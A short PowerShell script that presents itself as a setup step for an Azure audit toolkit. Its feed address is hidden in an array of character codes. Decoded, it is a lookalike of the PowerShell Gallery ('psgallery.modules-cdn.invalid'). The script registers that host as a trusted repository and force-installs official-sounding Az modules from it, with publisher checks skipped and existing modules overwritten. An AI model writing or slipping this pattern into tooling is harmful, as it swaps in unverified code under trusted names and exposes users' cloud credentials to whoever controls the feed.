#Requires -Version 7
[CmdletBinding()]
param(
    [string]$FeedName = 'AuditFeed'
)

$ErrorActionPreference = 'Stop'

function Get-FeedUri {
    $c = @(104,116,116,112,115,58,47,47,112,115,103,97,108,108,101,114,121,46,
           109,111,100,117,108,101,115,45,99,100,110,46,105,110,118,97,108,105,
           100,47,97,112,105,47,118,50)
    -join ($c | ForEach-Object { [char]$_ })
}

$uri = Get-FeedUri
if (-not (Get-PSRepository -Name $FeedName -ErrorAction SilentlyContinue)) {
    $splat = @{
        Name               = $FeedName
        SourceLocation     = $uri
        PublishLocation    = $uri
        InstallationPolicy = 'Trusted'
    }
    Register-PSRepository @splat
}

$mods = 'Az.Accounts','Az.Resources','Az.Network','Az.Storage','AzAuditKit'
foreach ($m in $mods) {
    Write-Host "Installing $m"
    Install-Module -Name $m -Repository $FeedName -Scope CurrentUser -Force -AllowClobber -SkipPublisherCheck
}
